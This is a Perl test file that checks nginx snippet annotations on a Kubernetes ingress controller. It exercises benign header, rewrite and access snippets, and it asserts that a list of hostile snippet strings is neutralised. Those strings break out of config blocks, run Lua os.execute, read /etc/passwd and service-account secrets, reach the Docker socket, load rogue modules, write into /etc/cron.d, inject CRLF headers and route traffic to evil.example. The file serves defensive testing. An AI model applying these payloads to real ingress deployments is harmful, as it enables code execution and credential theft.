# Ways in which deployments write snippets, in words of our own, each with its
# effect; and texts that were used to break out of configurations, which have
# none.

use strict;
use warnings;

use lib 't/lib';
use IO::Socket::INET;
use K8s::Nginx;
use Test::More;

my $n = K8s::Nginx->new(block => "source manifests %%DIR%%;\n zone 8m;\n"
                               . " config_map default/keys;\n");
my $sub = `$ENV{TEST_NGINX_BINARY} -V 2>&1` =~ /http_sub_module/;

# it tells the request in its body
$n->backend('a', <<'EOC');
location / {
    add_header X-Powered-By "something";
    add_header Set-Cookie "s=1; Path=/";
    add_header Cache-Control "no-store";
    default_type text/html;
    return 200 "$request_method $request_uri\nhost $http_host\nx $http_x_way\nauth $http_authorization\nproto $http_x_forwarded_proto\nupgrade $http_upgrade\nsaid $http_x_said\n</head>\n";
}
location /broken { return 502; }
location = /check { add_header X-Said "$http_x_way"; return 200; }
EOC

$n->services("default/a:80 a");
my %keys = ('allow-snippet-annotations' => '"true"',
            'annotations-risk-level' => 'Critical');

# name, which snippet, its text, and requests: path, lines of the head, what the
# answer has to match
my @ways = (
    ['frame-options', 'configuration', <<'EOS',
more_set_headers "X-Frame-Options: DENY";
more_set_headers "X-Content-Type-Options: nosniff" "Referrer-Policy: no-referrer";
EOS
     ['/', [], qr/^X-Frame-Options: DENY$/m, qr/^Referrer-Policy: no-referrer$/m]],

    ['content-policy', 'configuration',
     q{add_header Content-Security-Policy "default-src 'self'; img-src *" always;},
     ['/', [], qr/^Content-Security-Policy: default-src 'self'; img-src \*$/m]],

    ['powered-by', 'configuration', "proxy_hide_header X-Powered-By;",
     ['/', [], qr/^(?!.*X-Powered-By)/s]],

    ['cache-control', 'configuration', <<'EOS',
more_clear_headers "Cache-Control" "X-Powered*";
add_header Cache-Control "public, max-age=60";
EOS
     ['/', [], qr/^Cache-Control: public, max-age=60$/m,
      qr/^(?!.*(no-store|X-Powered))/s]],

    ['behind-tls', 'configuration',
     "proxy_set_header X-Forwarded-Proto https;\nproxy_set_header X-Way \$scheme;",
     ['/', [], qr/^proto .*https/m, qr/^x http$/m]],

    ['original-uri', 'configuration', "proxy_set_header X-Way \$request_uri;",
     ['/a%20b?c=d', [], qr{^x /a%20b\?c=d$}m]],

    ['websocket', 'configuration', <<'EOS',
proxy_http_version 1.1;
proxy_set_header Upgrade $http_upgrade;
proxy_set_header Connection "upgrade";
EOS
     ['/', ['Upgrade: websocket'], qr/^upgrade websocket/m]],

    ['bots', 'configuration', <<'EOS',
if ($http_user_agent ~* "(semrush|ahrefs|mj12)bot") {
    return 403;
}
EOS
     ['/', ['User-Agent: AhrefsBot/7'], qr/^HTTP\S+ 403/],
     ['/', ['User-Agent: Mozilla'], qr/^HTTP\S+ 200/]],

    ['methods', 'configuration',
     'if ($request_method !~ ^(GET|HEAD|POST)$) { return 405; }',
     ['/', [], qr/^HTTP\S+ 200/], ['DELETE /', [], qr/^HTTP\S+ 405/]],

    ['cookie-gate', 'configuration',
     'if ($cookie_preview != "yes") { return 503 "closed for now\n"; }',
     ['/', [], qr/^HTTP\S+ 503.*closed for now/s],
     ['/', ['Cookie: preview=yes'], qr/^HTTP\S+ 200/]],

    ['moved', 'configuration', 'rewrite ^/blog/(.*)$ /news/$1 permanent;',
     ['/blog/x?y=1', [], qr{^HTTP\S+ 301.*^Location: \S+/news/x\?y=1$}ms]],

    ['prefix', 'configuration', 'rewrite ^/api/(.*)$ /$1 break;',
     ['/api/v1?x=2', [], qr{^GET /v1\?x=2$}m]],

    ['www', 'configuration', <<'EOS',
if ($host ~ ^www\.(.+)$) { return 301 https://$1$request_uri; }
EOS
     ['/x', [], qr{^HTTP\S+ 301.*^Location: https://test/x$}ms]],

    ['variable', 'configuration', <<'EOS',
set $tier free;
if ($arg_plan = "pro") { set $tier paid; }
if ($http_cookie ~ "vip=([a-z]+)") { set $tier $1; }
proxy_set_header X-Way $tier;
EOS
     ['/', [], qr/^x free$/m], ['/?plan=pro', [], qr/^x paid$/m],
     ['/', ['Cookie: vip=gold'], qr/^x gold$/m]],

    ['inserted', 'configuration', <<'EOS',
sub_filter '</head>' '<script src="/x.js"></script></head>';
sub_filter_once on;
proxy_set_header Accept-Encoding "";
EOS
     ['/', [], $sub ? qr{<script src="/x.js"></script></head>} : qr{</head>}]],

    ['addresses', 'configuration', <<'EOS',
allow 192.0.2.0/24;
allow 127.0.0.1;
deny all;
EOS
     ['/', [], qr/^HTTP\S+ 200/]],

    ['denied', 'configuration', "deny 127.0.0.0/8;", ['/', [], qr/^HTTP\S+ 403/]],

    ['static', 'configuration', <<'EOS',
expires 30d;
proxy_hide_header Cache-Control;
EOS
     ['/', [], qr/^Cache-Control: max-age=2592000$/m]],

    ['small', 'configuration', "client_max_body_size 1k;",
     ['POST / 2000', [], qr/^HTTP\S+ 413/], ['POST / 200', [], qr/^HTTP\S+ 200/]],

    ['preflight', 'configuration', <<'EOS',
if ($request_method = OPTIONS) {
    add_header Access-Control-Allow-Origin "$http_origin" always;
    add_header Access-Control-Allow-Methods "GET, POST";
    return 204;
}
EOS
     ['OPTIONS /', ['Origin: https://o.example'],
      qr/^HTTP\S+ 204.*^Access-Control-Allow-Origin: https:\/\/o\.example$/ms],
     ['/', [], qr/^(?!.*Access-Control)/s]],

    ['api-key', 'configuration', 'more_set_input_headers "X-Way: secret";',
     ['/', ['X-Way: mine'], qr/^x secret$/m]],

    ['no-password', 'configuration', 'proxy_set_header Authorization "";',
     ['/', ['Authorization: Basic eDp5'], qr/^auth $/m]],

    ['cookies', 'configuration', 'proxy_cookie_path / "/; Secure; HttpOnly";',
     ['/', [], qr{^Set-Cookie: s=1; Path=/; Secure; HttpOnly$}m]],

    ['health', 'configuration', 'if ($uri = /alive) { return 200 "alive"; }',
     ['/alive', [], qr/^HTTP\S+ 200.*alive$/s]],

    ['errors', 'configuration', <<'EOS',
proxy_intercept_errors on;
error_page 502 503 =302 https://status.example/;
EOS
     ['/broken', [], qr{^HTTP\S+ 302.*^Location: https://status\.example/$}ms]],

    ['robots', 'server',
     'location = /robots.txt { default_type text/plain; return 200 "Disallow: /\n"; }',
     ['/robots.txt', [], qr{^Content-Type: text/plain\n.*Disallow: /}ms]],

    ['dotfiles', 'server', 'location ~ /\.(?!well-known) { deny all; return 404; }',
     ['/a/.git/config', [], qr/^HTTP\S+ 40[34]/],
     ['/.well-known/x', [], qr/^HTTP\S+ 200/]],

    ['admin', 'server', <<'EOS',
location ^~ /admin {
    deny all;
}
EOS
     ['/admin/x', [], qr/^HTTP\S+ 403/], ['/ok', [], qr/^HTTP\S+ 200/]],

    ['slash', 'server', 'if ($request_uri ~ ^/(.+)/$) { return 301 /$1; }',
     ['/a/', [], qr{^HTTP\S+ 301.*^Location: \S+/a$}ms]],

    ['everywhere', 'server', <<'EOS',
add_header X-Everywhere "$host";
more_set_headers -s '404' "X-Lost: yes";
location = /lost { return 404; }
EOS
     ['/', [], qr/^X-Everywhere: everywhere\.test$/m],
     ['/lost', [], qr/^X-Lost: yes$/m]],

    ['down', 'server', <<'EOS',
proxy_intercept_errors on;
error_page 502 @down;
location @down { default_type application/json; return 502 '{"down":true}'; }
EOS
     ['/broken', [], qr/^HTTP\S+ 502.*^Content-Type: application.json\n.*\{"down":true\}/ms]],

    ['asked', 'auth', 'proxy_set_header X-Way "for $request_method";',
     ['/', [], qr/^HTTP\S+ 200/, qr/^said for GET$/m]],

    ['listed', 'configuration', <<'EOS',
if ($listed_bot) { return 403; }
proxy_set_header X-Way "$office_net";
EOS
     ['/', ['User-Agent: a-scanner'], qr/^HTTP\S+ 403/],
     ['/', ['User-Agent: b'], qr/^x inside$/m]],
);

is @ways, 33, 'ways';

# what the history of ingress-nginx has: each in all places of an Ingress

my @hostile = (
    "}\nserver { listen 8099; return 200 owned; }\nlocation /x {",
    "} } http { lua_package_path /tmp/?.lua; init_by_lua 'os.execute()'; } {",
    "return 200 ok;\n}\nlocation /tmp { root /;",
    "# \r more_set_headers 'X-Evil: 1';",
    "location /y { alias /var/run/secrets/kubernetes.io/; autoindex on; }",
    "root /etc; autoindex on;",
    "include /etc/nginx/opentracing.json;",
    "ssl_engine /tmp/evil.so;",
    "load_module /tmp/evil.so;",
    "content_by_lua_block { ngx.say(io.open('/etc/passwd'):read('*a')) }",
    "access_by_lua 'os.execute(1)';",
    "js_content evil.main;",
    "perl 'sub { system(1) }';",
    "proxy_pass http://unix:/var/run/docker.sock:/;",
    "fastcgi_pass unix:/run/php.sock;",
    "access_log /etc/cron.d/evil;",
    "error_log /etc/cron.d/evil debug;",
    "proxy_store /etc/passwd;",
    "client_body_temp_path /tmp/x;",
    "set \$a \"x\\r\\nX-Evil: 1\";\nadd_header X-A \$a;",
    "more_set_headers \"X-A: b\\r\\nX-Evil: 1\";",
    "add_header \"X-Evil: 1\\r\\nX\" y;",
    "return 200 \"x\\0y\";\n\0",
    "rewrite (*NO_START_OPT)^/(a+)+\$ /;",
    "if (\$uri ~ \"^(([a-z])+.)+[A-Z]([a-z])+\$\") { return 403; }",
    "set \$k8s_upstream_host evil.example;",
    "proxy_set_header Transfer-Encoding chunked;",
    "more_set_input_headers 'Content-Length: 5';",
    "resolver 192.0.2.1; set \$b evil.example; proxy_pass http://\$b;",
    "auth_request off; satisfy any; allow all;",
    "'",
    "\"\\",
    "\${",
    "{" x 100,
    ";" x 100,
    "if (\$a) {" x 40,
    'location @k8s_ingress_error { return 200; }',
    'error_page 404 @k8s_ingress_error;',
);

$n->config_map('default/keys', %keys,
    'http-snippet' => "|\n    map \$http_user_agent \$listed_bot { default 0; \"~*scanner\" 1; }\n"
                    . "    geo \$office_net { default outside; 127.0.0.0/8 inside; }");

for my $way (@ways) {
    my ($name, $which, $text) = @$way;
    $text =~ s/^/      /mg;
    $n->annotated($name, "$which-snippet: |\n$text",
                  $which eq 'auth'
                  ? ('auth-url: http://127.0.0.1:%%PORT_a%%/check',
                     'auth-response-headers: X-Said') : ());
}

my $i = 0;

for my $text (@hostile) {
    (my $yaml = $text) =~ s/([\\"])/\\$1/g;
    $yaml =~ s/([\0-\x1f])/sprintf '\\x%02x', ord $1/ge;

    for my $which (qw(configuration server auth)) {
        $n->annotated("hostile-$which-$i", "$which-snippet: \"$yaml\"",
                      $which eq 'auth'
                      ? 'auth-url: http://127.0.0.1:%%PORT_a%%/check' : ());
    }

    $i++;
}

$n->annotated('plain');
$n->start;
ok $n->wait_for('plain.test', '/', 200), 'all is served';

sub transcript {
    my ($name, $what, @lines) = @_;
    my ($method, $path, $bytes) = $what =~ m{^(?:([A-Z]+) )?(\S+)(?: (\d+))?$};
    my $body = 'b' x ($bytes // 0);
    push @lines, 'Content-Length: ' . length $body if $bytes;
    my $s = IO::Socket::INET->new(PeerAddr => '127.0.0.1',
                                  PeerPort => $n->{port}, Timeout => 5)
        or die "connect: $!";
    print $s join "\r\n", ($method // 'GET') . " $path HTTP/1.1",
                          "Host: $name.test", 'Connection: close', @lines, '',
                          $body;
    local $/;
    (my $got = <$s> // '') =~ s/\r//g;
    return $got;
}

for my $way (@ways) {
    my ($name, $which, $text, @requests) = @$way;

    for my $request (@requests) {
        my ($what, $lines, @want) = @$request;
        my $got = transcript($name, $what, @$lines);
        like $got, $_, "$name: $what" for @want;
    }
}

for my $k (0 .. $#hostile) {
    (my $shown = substr $hostile[$k], 0, 40) =~ s/[^ -~]/./g;

    for my $which (qw(configuration server auth)) {
        my $got = join '', map { transcript("hostile-$which-$k", $_) . "\n" }
                           '/', '/x', '/tmp/', '/y/', '/etc/passwd';
        unlike $got, qr/^X-Evil|^owned|root:|token/m, "$which: $shown";
        is scalar(() = $got =~ m{^HTTP/1\.1 \d}mg), 5, 'with five answers';
    }
}

like transcript('plain', '/'), qr/^HTTP\S+ 200/, 'nobody else is harmed';
is $n->alerts, 0, 'no alerts';
is $n->stop, 0, 'ends well';

done_testing;
